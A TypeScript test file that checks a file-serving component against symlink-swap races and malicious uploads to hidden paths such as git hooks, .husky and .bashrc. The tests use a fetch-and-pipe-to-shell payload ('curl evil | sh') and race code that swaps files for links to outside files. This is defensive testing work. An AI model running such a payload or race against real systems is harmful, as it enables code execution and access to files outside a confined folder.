/**
 * The served folder against a local process that swaps files and folders for links while the
 * server works (issue 14, item 6), and uploads that would plant hidden executables (item 11).
 * The races are bounded by count: a child swaps at most SWAPS times while the test reads or
 * writes a fixed number of times.
 */
import { spawn } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ConfinedFolder } from '../../../src-main/files/folder';
import { ServedFiles } from '../../../src-main/files/service';

const SWAPS = 400_000;

/** Starts a child that swaps `path` between `a` and `b` (each a link or a prepared entry) by rename. */
function swapper(script: string): { stop: () => Promise<void>; started: Promise<void> } {
  const child = spawn(process.execPath, ['-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
  const exited = new Promise<void>((resolve) => child.once('exit', () => resolve()));
  const started = new Promise<void>((resolve) => child.stdout.once('data', () => resolve()));
  return {
    started,
    stop: async () => {
      child.kill();
      await exited;
    },
  };
}

function fixture() {
  const base = mkdtempSync(join(tmpdir(), 'convolab-race-'));
  const root = join(base, 'served');
  const outside = join(base, 'outside');
  mkdirSync(root);
  mkdirSync(outside);
  return { base, root, outside };
}

describe('the served folder under link swaps', () => {
  it('never returns an outside file while a file is swapped for a link to one', async () => {
    const { root, outside } = fixture();
    writeFileSync(join(outside, 'secret.txt'), 'OUTSIDE');
    writeFileSync(join(root, 'data.txt'), 'inside');
    const folder = new ConfinedFolder(root);
    const race = swapper(`
      const fs = require('node:fs');
      const dir = ${JSON.stringify(root)};
      const pause = () => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1);
      process.stdout.write('go\\n');
      for (let i = 0; i < ${SWAPS}; i++) {
        try { fs.symlinkSync(${JSON.stringify(join(outside, 'secret.txt'))}, dir + '/l'); fs.renameSync(dir + '/l', dir + '/data.txt'); } catch {}
        try { fs.writeFileSync(dir + '/f', 'inside'); fs.renameSync(dir + '/f', dir + '/data.txt'); } catch {}
        pause();
      }`);
    await race.started;
    const outcomes = { inside: 0, outside: 0, refused: 0 };
    const reads = 3000;
    try {
      for (let i = 0; i < reads; i++) {
        try {
          const text = new TextDecoder().decode(await folder.read('data.txt'));
          if (text === 'OUTSIDE') outcomes.outside++;
          else outcomes.inside++;
        } catch {
          outcomes.refused++;
        }
      }
    } finally {
      await race.stop();
    }
    console.log('reads under swaps', outcomes);
    expect(outcomes.outside).toBe(0);
    expect(outcomes.inside + outcomes.refused).toBe(reads);
    expect(outcomes.inside).toBeGreaterThan(0);
  });

  it('never writes outside while the folder written into is swapped for a link to an outside one', async () => {
    const { root, outside } = fixture();
    mkdirSync(join(root, 'd'));
    const folder = new ConfinedFolder(root);
    const race = swapper(`
      const fs = require('node:fs');
      const dir = ${JSON.stringify(root)};
      fs.mkdirSync(dir + '/real');
      const pause = () => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1);
      process.stdout.write('go\\n');
      for (let i = 0; i < ${SWAPS}; i++) {
        try { fs.renameSync(dir + '/d', dir + '/real'); fs.symlinkSync(${JSON.stringify(outside)}, dir + '/d'); } catch {}
        pause();
        try { fs.unlinkSync(dir + '/d'); fs.renameSync(dir + '/real', dir + '/d'); } catch {}
        pause();
      }`);
    await race.started;
    let written = 0;
    const writes = 400;
    try {
      for (let i = 0; i < writes; i++) {
        await folder.write(`d/f${i}.txt`, 'x').then(
          () => written++,
          () => undefined,
        );
      }
    } finally {
      await race.stop();
    }
    console.log('writes under swaps', { written, outside: readdirSync(outside).length });
    expect(readdirSync(outside)).toEqual([]);
    expect(written).toBeGreaterThan(0);
  });
});

describe('uploads go only where the file browser shows', () => {
  function served() {
    const { base, root } = fixture();
    mkdirSync(join(root, '.husky'));
    mkdirSync(join(root, 'tools'));
    writeFileSync(join(root, '.husky', 'pre-commit'), '#!/bin/sh\necho hook\n');
    chmodSync(join(root, '.husky', 'pre-commit'), 0o755);
    writeFileSync(join(root, 'tools', 'run.sh'), '#!/bin/sh\n');
    chmodSync(join(root, 'tools', 'run.sh'), 0o755);
    return { root, files: new ServedFiles({ folder: root, stateDir: join(base, 'state') }) };
  }
  const data = new TextEncoder().encode('#!/bin/sh\ncurl evil | sh\n');

  it.each(['.husky/pre-commit', '.husky/post-merge', '.git/hooks/pre-push', 'tools/.env', '.bashrc', 'tools/./.hidden/x.wav'])(
    'refuses an upload to %s (a name starting with a dot), and leaves what is there alone',
    async (path) => {
      const { root, files } = served();
      await expect(files.uploadFile({ path, data, replace: true })).rejects.toThrow(/starting with a dot/);
      expect(readFileSync(join(root, '.husky', 'pre-commit'), 'utf8')).toBe('#!/bin/sh\necho hook\n');
      expect(statSync(join(root, '.husky', 'pre-commit')).mode & 0o777).toBe(0o755);
      expect(readdirSync(join(root, '.husky'))).toEqual(['pre-commit']);
    },
  );

  it('never keeps an execute bit: a replaced executable and a new file are plain files', async () => {
    const { root, files } = served();
    await files.uploadFile({ path: 'tools/run.sh', data, replace: true });
    await files.uploadFile({ path: 'tools/new.sh', data });
    expect(statSync(join(root, 'tools', 'run.sh')).mode & 0o111).toBe(0);
    expect(statSync(join(root, 'tools', 'new.sh')).mode & 0o111).toBe(0);
    expect(readFileSync(join(root, 'tools', 'run.sh'), 'utf8')).toContain('curl evil');
  });
});
